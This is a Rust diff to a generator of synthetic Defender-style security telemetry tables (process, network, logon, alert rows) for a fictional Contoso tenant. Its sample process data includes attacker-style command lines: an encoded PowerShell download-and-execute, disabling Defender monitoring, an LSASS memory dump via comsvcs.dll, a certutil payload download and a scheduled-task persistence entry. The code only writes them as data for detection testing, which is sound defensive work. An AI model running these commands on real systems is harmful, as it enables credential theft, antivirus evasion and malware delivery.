@@ -17,17 +17,8 @@ use std::sync::OnceLock;
 
 use serde_json::json;
 
-mod actions;
 mod generic;
-mod inventory;
-mod procs;
-mod values;
 mod world;
-
-#[cfg(test)]
-mod realism_tests;
-
-use procs::{PROCS, Proc, tree};
 
 use world::{World, world};
 
@@ -268,8 +259,6 @@ const DEVICES: &[Device] = &[
     Device { name: "build-agent-17", ip: "172.16.3.17", os: "WindowsServer2022" },
     Device { name: "exch01.contoso.com", ip: "10.0.1.15", os: "WindowsServer2019" },
     Device { name: "kiosk-lobby", ip: "192.168.50.23", os: "Windows10" },
-    Device { name: "web-dmz-01.contoso.com", ip: "172.16.8.11", os: "WindowsServer2016" },
-    Device { name: "srv-legacy-01.contoso.com", ip: "10.0.3.31", os: "WindowsServer2012R2" },
 ];
 
 #[derive(Clone, Copy)]
@@ -334,8 +323,198 @@ const ACCOUNTS: &[Account] = &[
     },
 ];
 
-/// Remote addresses: Microsoft 365 and CDNs, the tenant's own servers, documentation ranges
-/// standing in for attacker infrastructure, IPv6.
+struct Proc {
+    file: &'static str,
+    dir: &'static str,
+    company: &'static str,
+    product: &'static str,
+    version: &'static str,
+    description: &'static str,
+    size: i64,
+    cmds: &'static [&'static str],
+}
+
+const MS: &str = "Microsoft Corporation";
+const WINOS: &str = "Microsoft® Windows® Operating System";
+
+const PROCS: &[Proc] = &[
+    Proc {
+        file: "powershell.exe",
+        dir: r"C:\Windows\System32\WindowsPowerShell\v1.0",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.3996",
+        description: "Windows PowerShell",
+        size: 452_608,
+        cmds: &[
+            r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
+            "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABlAGwAbABvACAAZgByAG8AbQAgAGgAdQBuAHQAIgA=",
+            "\"powershell.exe\" -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=",
+            "powershell.exe -Command \"Get-Process | Where-Object { $_.CPU -gt 100 }\"",
+            "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true",
+            r"powershell.exe Add-MpPreference -ExclusionPath C:\Users\Public\Downloads",
+        ],
+    },
+    Proc {
+        file: "cmd.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.746",
+        description: "Windows Command Processor",
+        size: 289_792,
+        cmds: &[
+            r#"cmd.exe /c "echo \"quoted\" & dir C:\Users\Public""#,
+            r"cmd.exe /c whoami /all",
+            "cmd.exe /c net group \"Domain Admins\" /domain",
+            "cmd.exe /c type C:\\temp\\notes.txt\t& exit",
+        ],
+    },
+    Proc {
+        file: "rundll32.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.1",
+        description: "Windows host process (Rundll32)",
+        size: 71_680,
+        cmds: &[
+            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
+            r"rundll32.exe shell32.dll,Control_RunDLL C:\Users\Public\evil.cpl",
+            r"rundll32.exe C:\Windows\system32\shell32.dll,#44",
+        ],
+    },
+    Proc {
+        file: "svchost.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.1806",
+        description: "Host Process for Windows Services",
+        size: 55_320,
+        cmds: &[
+            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
+            r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p",
+        ],
+    },
+    Proc {
+        file: "chrome.exe",
+        dir: r"C:\Program Files\Google\Chrome\Application",
+        company: "Google LLC",
+        product: "Google Chrome",
+        version: "131.0.6778.86",
+        description: "Google Chrome",
+        size: 3_095_456,
+        cmds: &[
+            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US"#,
+            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" https://contoso.sharepoint.com/"#,
+        ],
+    },
+    Proc {
+        file: "WINWORD.EXE",
+        dir: r"C:\Program Files\Microsoft Office\root\Office16",
+        company: MS,
+        product: "Microsoft Office",
+        version: "16.0.17928.20156",
+        description: "Microsoft Word",
+        size: 1_937_800,
+        cmds: &[
+            r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\jsmith\Downloads\Invoice 4521.docm""#,
+        ],
+    },
+    Proc {
+        file: "certutil.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.2913",
+        description: "CertUtil.exe",
+        size: 1_357_824,
+        cmds: &[
+            r"certutil.exe -urlcache -split -f http://198.51.100.7/payload.bin C:\Users\Public\p.bin",
+        ],
+    },
+    Proc {
+        file: "schtasks.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.1503",
+        description: "Task Scheduler Configuration Tool",
+        size: 235_008,
+        cmds: &[
+            r#"schtasks.exe /create /tn "Updater" /tr "C:\Users\Public\upd.exe" /sc minute /mo 15"#,
+            r"schtasks.exe /query /fo LIST /v",
+        ],
+    },
+    Proc {
+        file: "net.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.1",
+        description: "Net Command",
+        size: 56_832,
+        cmds: &[r"net.exe localgroup administrators", r"net.exe user /domain"],
+    },
+    Proc {
+        file: "Teams.exe",
+        dir: r"C:\Users\zoë.müller\AppData\Local\Microsoft\Teams\current",
+        company: MS,
+        product: "Microsoft Teams",
+        version: "1.7.00.13456",
+        description: "Microsoft Teams",
+        size: 134_263_232,
+        cmds: &[
+            r#""C:\Users\zoë.müller\AppData\Local\Microsoft\Teams\current\Teams.exe" --processStart "Teams.exe""#,
+        ],
+    },
+];
+
+/// Initiating processes (indices into `PROCS` are not shared: these are the usual parents).
+const PARENTS: &[Proc] = &[
+    Proc {
+        file: "explorer.exe",
+        dir: r"C:\Windows",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.4291",
+        description: "Windows Explorer",
+        size: 5_183_280,
+        cmds: &[r"C:\Windows\Explorer.EXE"],
+    },
+    Proc {
+        file: "services.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.3636",
+        description: "Services and Controller app",
+        size: 721_456,
+        cmds: &[r"C:\Windows\system32\services.exe"],
+    },
+    Proc {
+        file: "wmiprvse.exe",
+        dir: r"C:\Windows\System32\wbem",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.1",
+        description: "WMI Provider Host",
+        size: 515_584,
+        cmds: &[r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"],
+    },
+    Proc {
+        file: "userinit.exe",
+        dir: r"C:\Windows\System32",
+        company: MS,
+        product: WINOS,
+        version: "10.0.19041.1",
+        description: "Userinit Logon Application",
+        size: 33_280,
+        cmds: &[r"C:\Windows\system32\userinit.exe"],
+    },
+];
+
 const REMOTE_IPS: &[&str] = &[
     "52.96.165.18",
     "13.107.42.14",
@@ -345,25 +524,7 @@ const REMOTE_IPS: &[&str] = &[
     "fe80::1c2b:3a4d:5e6f:7a8b",
     "2001:db8::dead:beef",
     "185.199.108.133",
-    "10.0.2.22",
-    "10.0.1.15",
-    "10.1.4.42",
-    "172.16.3.17",
-    "192.168.50.23",
-    "20.190.151.7",
-    "140.82.112.3",
-    "104.16.132.229",
-    "203.0.113.50",
-    "198.51.100.23",
-    "185.220.101.34",
-    "45.133.1.20",
-    "127.0.0.1",
-    "8.8.8.8",
-    "104.208.16.94",
-    "151.101.1.140",
 ];
-/// Remote host names: Microsoft 365, webmail, cloud storage, code hosting, paste and tunnel
-/// services, IP-literal URLs, and none (most connections carry no URL).
 const REMOTE_URLS: &[&str] = &[
     "outlook.office365.com",
     "login.microsoftonline.com",
@@ -371,64 +532,7 @@ const REMOTE_URLS: &[&str] = &[
     "raw.githubusercontent.com",
     "update.example-cdn.net",
     "",
-    "",
-    "",
-    "contoso.sharepoint.com",
-    "contoso-my.sharepoint.com",
-    "github.com",
-    "api.github.com",
-    "pastebin.com",
-    "x3k9q.ngrok-free.app",
-    "mail.google.com",
-    "drive.google.com",
-    "www.dropbox.com",
-    "mega.nz",
-    "transfer.sh",
-    "api.telegram.org",
-    "cdn.discordapp.com",
-    "http://198.51.100.7/payload.bin",
-    "https://203.0.113.50:8443/api",
-    "www.bing.com",
-    "teams.microsoft.com",
-    "ctldl.windowsupdate.com",
-    "ipinfo.io",
-    "anydesk.com",
 ];
-/// Remote ports, the common ones repeated so they dominate.
-const PORTS: &[u16] = &[
-    443, 443, 443, 443, 443, 80, 80, 445, 445, 3389, 53, 53, 135, 139, 389, 636, 88, 22, 5985,
-    5986, 8080, 8443, 4444, 21, 25, 587, 1433, 3268, 9389, 5900, 1080, 6667, 9001, 49667,
-];
-
-/// Whether a DeviceNetworkEvents row is an inbound or listening connection.
-fn inbound(r: &R) -> bool {
-    matches!(
-        r.pick(1, actions::NETWORK_EVENTS),
-        "InboundConnectionAccepted" | "ListeningConnectionCreated"
-    )
-}
-
-/// `RemoteIPType` of an address, as the service classifies it.
-fn ip_type(ip: &str) -> &'static str {
-    let private = ip.starts_with("10.")
-        || ip.starts_with("192.168.")
-        || ip
-            .strip_prefix("172.")
-            .and_then(|rest| rest.split('.').next())
-            .and_then(|o| o.parse::<u8>().ok())
-            .is_some_and(|o| (16..32).contains(&o));
-    if private {
-        "Private"
-    } else if ip.starts_with("127.") || ip == "::1" {
-        "Loopback"
-    } else if ip.starts_with("fe80:") {
-        "LinkLocal"
-    } else if ip.starts_with("2001:db8:") || ip.starts_with("198.51.100.") {
-        "Reserved"
-    } else {
-        "Public"
-    }
-}
 
 // ---------------------------------------------------------------------------------------------
 // Row context: the entities of one event, drawn once, then read by each column's generator.
@@ -449,34 +553,26 @@ struct R {
     ip: &'static Proc,
     hip: &'static Derived,
     pp: &'static Proc,
-    /// The row belongs to a burst: an account hammered during a noisy 15-minute window.
-    burst: bool,
 }
-
-/// A burst's source: an anonymising exit, as password sprays and brute force come from.
-const BURST_IP: &str = "185.220.101.34";
 
 impl R {
     fn new(w: &'static World, seed: u64, k: i64, ts: i64) -> R {
         let s = mix(seed ^ mix(k as u64) ^ 0x5bd1_e995);
         let pick = |salt: u64, n: usize| (mix(s ^ salt) % n as u64) as usize;
         let cache = cache();
-        let (dev, mut acct, iacct) =
-            (pick(1, w.devices.len()), pick(2, w.accounts.len()), pick(3, w.accounts.len()));
-        // One 15-minute window in eight is noisy: three rows in four of it act on one account
-        // (brute force, a busy user), so `count() > N` thresholds are crossed.
-        let bucket = (ts / (15 * 60 * TICKS_PER_SECOND)) as u64;
-        let noisy = mix(bucket ^ w.salt ^ 0xb0b).is_multiple_of(8);
-        let burst = noisy && pick(8, 4) != 0;
-        if burst {
-            let target = (mix(bucket ^ 0x7a7) % w.accounts.len() as u64) as usize;
-            acct = if w.accounts[target].upn.is_some() { target } else { 0 };
-        }
-        // A process, its parent and grandparent: a branch of a plausible tree.
-        let t = tree();
-        let p = t.child(mix(s ^ 4));
-        let ip = t.parent(p, mix(s ^ 5));
-        let pp = t.parent(ip, mix(s ^ 7));
+        let (dev, acct, iacct, p) = (
+            pick(1, w.devices.len()),
+            pick(2, w.accounts.len()),
+            pick(3, w.accounts.len()),
+            pick(4, PROCS.len()),
+        );
+        let (ip, hip) = if pick(5, 3) == 0 {
+            let i = pick(6, 3);
+            (&PROCS[i], &cache.procs[i])
+        } else {
+            let i = pick(6, PARENTS.len());
+            (&PARENTS[i], &cache.parents[i])
+        };
         R {
             w,
             k,
@@ -490,10 +586,9 @@ impl R {
             iids: &w.ids[iacct],
             p: &PROCS[p],
             hp: &cache.procs[p],
-            ip: &PROCS[ip],
-            hip: &cache.procs[ip],
-            pp: &PROCS[pp],
-            burst,
+            ip,
+            hip,
+            pp: &PARENTS[pick(7, PARENTS.len())],
         }
     }
 
@@ -576,6 +671,7 @@ struct Ids {
 
 struct Cache {
     procs: Vec<Derived>,
+    parents: Vec<Derived>,
 }
 
 fn cache() -> &'static Cache {
@@ -587,7 +683,10 @@ fn cache() -> &'static Cache {
             md5: hex(str_seed(p.file) ^ 3, 32),
             path: path(p),
         };
-        Cache { procs: PROCS.iter().map(derive).collect() }
+        Cache {
+            procs: PROCS.iter().map(derive).collect(),
+            parents: PARENTS.iter().map(derive).collect(),
+        }
     })
 }
 
@@ -700,10 +799,7 @@ fn init_id(r: &R) -> Cell {
     Cell::Int((r.h(41) % 30_000) as i64 + 4)
 }
 fn init_cmd(r: &R) -> Cell {
-    s(init_cmd_text(r))
-}
-fn init_cmd_text(r: &R) -> &'static str {
-    r.pick(42, r.ip.cmds)
+    s(r.pick(42, r.ip.cmds))
 }
 fn init_created(r: &R) -> Cell {
     Cell::Time(r.ts - (r.h(43) % (3 * 24 * TICKS_PER_HOUR as u64)) as i64)
@@ -809,32 +905,36 @@ fn device_process_events() -> TableSpec {
 /// in DeviceNetworkEvents' order.
 fn device_network_events() -> TableSpec {
     let mut v = Vec::with_capacity(48);
-    head(&mut v, |r| s(r.pick(1, actions::NETWORK_EVENTS)));
+    head(&mut v, |r| {
+        s(r.pick(
+            1,
+            &[
+                "ConnectionSuccess",
+                "ConnectionSuccess",
+                "ConnectionSuccess",
+                "ConnectionFailed",
+                "ConnectionRequest",
+                "InboundConnectionAccepted",
+                "ListeningConnectionCreated",
+            ],
+        ))
+    });
     v.push(c("RemoteIP", STR, |r| s(r.pick(22, REMOTE_IPS))));
     v.push(c("RemotePort", INT, |r| {
         if r.h(23).is_multiple_of(10) {
             Cell::Null
         } else {
-            if inbound(r) {
-                Cell::Int(49_152 + (r.h(25) % 16_000) as i64)
-            } else {
-                Cell::Int(i64::from(r.pick(23, PORTS)))
-            }
+            Cell::Int(i64::from(r.pick(23, &[443u16, 80, 445, 3389, 53, 135, 8443])))
         }
     }));
     v.push(c("RemoteUrl", STR, |r| s(r.pick(24, REMOTE_URLS))));
     v.push(c("LocalIP", STR, |r| s(r.device().ip)));
-    // Inbound and listening connections are on a service's port, from an ephemeral one.
-    v.push(c("LocalPort", INT, |r| {
-        if inbound(r) {
-            Cell::Int(i64::from(r.pick(28, &[3389u16, 445, 22, 5985, 5986, 135, 80, 443, 8080])))
-        } else {
-            Cell::Int(49_152 + (r.h(25) % 16_000) as i64)
-        }
-    }));
+    v.push(c("LocalPort", INT, |r| Cell::Int(49_152 + (r.h(25) % 16_000) as i64)));
     v.push(c("Protocol", STR, |r| s(r.pick(26, &["Tcp", "Tcp", "Udp", "TcpV6"]))));
     v.push(c("LocalIPType", STR, |_| s("Private")));
-    v.push(c("RemoteIPType", STR, |r| s(ip_type(r.pick(22, REMOTE_IPS)))));
+    v.push(c("RemoteIPType", STR, |r| {
+        s(r.pick(27, &["Public", "Private", "Loopback", "FourToSixMapping"]))
+    }));
     init_image(&mut v);
     v.push(c("InitiatingProcessId", LONG, init_id));
     v.push(c("InitiatingProcessCommandLine", STR, init_cmd));
@@ -848,27 +948,14 @@ fn device_network_events() -> TableSpec {
     v.push(c("InitiatingProcessTokenElevation", STR, |r| elevation(r, 19)));
     v.push(c("ReportId", LONG, report_id));
     v.push(c("AppGuardContainerId", STR, |_| s("")));
-    v.push(c("AdditionalFields", STR, |r| {
-        actions::network_fields(r, r.pick(1, actions::NETWORK_EVENTS))
-            .map_or_else(|| additional_fields_str(r), |v| Cell::Str(v.to_string()))
-    }));
+    v.push(c("AdditionalFields", STR, additional_fields_str));
     session_tail(&mut v);
     TableSpec { name: "DeviceNetworkEvents", cols: v }
 }
 
-/// Whether a logon row failed: one in `n`, nine in ten during a burst.
-fn failed(r: &R, n: u64) -> bool {
-    if r.burst { !r.h(30).is_multiple_of(10) } else { r.h(30).is_multiple_of(n) }
-}
-
-/// A logon's remote address: the burst's source during a burst.
-fn logon_ip(r: &R) -> &'static str {
-    if r.burst { BURST_IP } else { r.pick(22, REMOTE_IPS) }
-}
-
 fn device_logon_events() -> TableSpec {
     let mut v = Vec::with_capacity(48);
-    head(&mut v, |r| s(if failed(r, 4) { "LogonFailed" } else { "LogonSuccess" }));
+    head(&mut v, |r| s(if r.h(30).is_multiple_of(4) { "LogonFailed" } else { "LogonSuccess" }));
     v.push(c("LogonType", STR, |r| {
         s(r.pick(
             31,
@@ -880,7 +967,7 @@ fn device_logon_events() -> TableSpec {
     v.push(c("AccountSid", STR, |r| Cell::Str(r.ids.sid.clone())));
     v.push(c("Protocol", STR, |r| s(r.pick(32, &["Kerberos", "NTLM", "Negotiate"]))));
     v.push(c("FailureReason", STR, |r| {
-        if failed(r, 4) {
+        if r.h(30).is_multiple_of(4) {
             s(r.pick(33, &["InvalidUserNameOrPassword", "UserAccountLocked", "AccountDisabled"]))
         } else {
             Cell::Null
@@ -891,8 +978,8 @@ fn device_logon_events() -> TableSpec {
     v.push(c("RemoteDeviceName", STR, |r| {
         if r.h(35).is_multiple_of(3) { Cell::Null } else { s(r.device_after(1).name) }
     }));
-    v.push(c("RemoteIP", STR, |r| s(logon_ip(r))));
-    v.push(c("RemoteIPType", STR, |r| s(ip_type(logon_ip(r)))));
+    v.push(c("RemoteIP", STR, |r| s(r.pick(22, REMOTE_IPS))));
+    v.push(c("RemoteIPType", STR, |r| s(r.pick(27, &["Public", "Private", "Loopback"]))));
     v.push(c("RemotePort", INT, |r| {
         if r.h(23).is_multiple_of(4) {
             Cell::Null
@@ -930,34 +1017,6 @@ const ALERTS: &[(&str, &str, &str, &str)] = &[
     ("Anomalous sign-in from 渡辺's account", "InitialAccess", "T1078", "Low"),
     ("Malware 'Trojan:Win32/Wacatac' was prevented", "Malware", "", "Informational"),
     ("Ransomware behavior detected\tin file system", "Ransomware", "T1486", "High"),
-    ("Sticky Keys binary hijack detected", "Persistence", "T1546.008", "High"),
-    ("Suspicious process injection observed", "DefenseEvasion", "T1055", "Medium"),
-    ("Suspicious access to LSASS service", "CredentialAccess", "T1003.001", "High"),
-    ("Mimikatz credential theft tool", "CredentialAccess", "T1003", "High"),
-    ("Suspicious WMI process creation", "Execution", "T1047", "Medium"),
-    ("Suspicious service registration", "Persistence", "T1543.003", "Medium"),
-    ("File backups were deleted", "Impact", "T1490", "High"),
-    ("Suspicious LDAP query", "Discovery", "T1087.002", "Low"),
-    (
-        "Suspected DCSync attack (replication of directory services)",
-        "CredentialAccess",
-        "T1003.006",
-        "High",
-    ),
-    ("Password spray", "CredentialAccess", "T1110.003", "Medium"),
-    ("Suspected brute-force attack (Kerberos, NTLM)", "CredentialAccess", "T1110", "Medium"),
-    (
-        "Email messages containing malicious URL removed after delivery",
-        "InitialAccess",
-        "T1566.002",
-        "Informational",
-    ),
-    ("User clicked a potentially malicious URL", "InitialAccess", "T1204.001", "Medium"),
-    ("Suspicious inbox forwarding rule", "Exfiltration", "T1114.003", "Medium"),
-    ("Impossible travel activity", "InitialAccess", "T1078", "Medium"),
-    ("Connection to a custom network indicator", "CommandAndControl", "T1071", "Informational"),
-    ("Suspicious file downloaded by certutil", "CommandAndControl", "T1105", "Medium"),
-    ("An active 'CobaltStrike' malware was detected", "Malware", "", "High"),
 ];
 
 fn alert_info() -> TableSpec {
@@ -1155,7 +1214,9 @@ fn identity_additional_fields(r: &R) -> Cell {
 fn identity_logon_events() -> TableSpec {
     let mut v = Vec::with_capacity(26);
     v.push(c("Timestamp", TIME, |r| Cell::Time(r.ts)));
-    v.push(c("ActionType", STR, |r| s(if failed(r, 5) { "LogonFailed" } else { "LogonSuccess" })));
+    v.push(c("ActionType", STR, |r| {
+        s(if r.h(30).is_multiple_of(5) { "LogonFailed" } else { "LogonSuccess" })
+    }));
     v.push(c("Application", STR, |r| {
         s(r.pick(80, &["Active Directory", "Microsoft 365", "Azure Portal"]))
     }));
@@ -1166,7 +1227,9 @@ fn identity_logon_events() -> TableSpec {
         ))
     }));
     v.push(c("Protocol", STR, |r| s(r.pick(82, &["Kerberos", "Ntlm", "Ldap", ""]))));
-    v.push(c("FailureReason", STR, |r| if failed(r, 5) { s("WrongPassword") } else { Cell::Null }));
+    v.push(c("FailureReason", STR, |r| {
+        if r.h(30).is_multiple_of(5) { s("WrongPassword") } else { Cell::Null }
+    }));
     v.push(c("AccountName", STR, |r| s(r.acct.name)));
     v.push(c("AccountDomain", STR, |r| Cell::Str(r.acct.domain.to_lowercase())));
     v.push(c("AccountUpn", STR, |r| upn(r.acct)));
@@ -1178,7 +1241,7 @@ fn identity_logon_events() -> TableSpec {
         s(if r.device().os.starts_with("WindowsServer") { "Server" } else { "Workstation" })
     }));
     v.push(c("OSPlatform", STR, |r| s(r.device().os)));
-    v.push(c("IPAddress", STR, |r| s(if r.burst { BURST_IP } else { r.device().ip })));
+    v.push(c("IPAddress", STR, |r| s(r.device().ip)));
     v.push(c("Port", INT, |r| {
         if r.h(83).is_multiple_of(6) {
             Cell::Null
